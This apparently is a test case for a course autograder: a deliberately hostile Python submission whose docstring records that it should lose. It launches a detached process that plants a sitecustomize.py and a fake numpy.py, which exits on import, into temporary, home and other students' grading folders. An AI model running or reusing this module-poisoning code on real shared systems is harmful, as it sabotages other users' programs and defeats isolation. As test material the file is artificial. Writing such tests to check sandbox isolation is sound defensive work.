"""A process watches for the next student's folder and puts modules there.

Loses: double-small, double-large
"""
# %% double
import subprocess, sys

subprocess.Popen([sys.executable, "-c", """
import glob, time
for _ in range(200):
    for folder in glob.glob("/tmp/*/") + glob.glob("/course/autograded/*/small/") + glob.glob("/home/*/"):
        try:
            open(folder + "sitecustomize.py", "w").write("'$MARK'")
            open(folder + "numpy.py", "w").write("raise SystemExit('$MARK')")
        except OSError:
            pass
    time.sleep(0.05)
""", "$MARK"], start_new_session=True)


def double(x):
    return 0
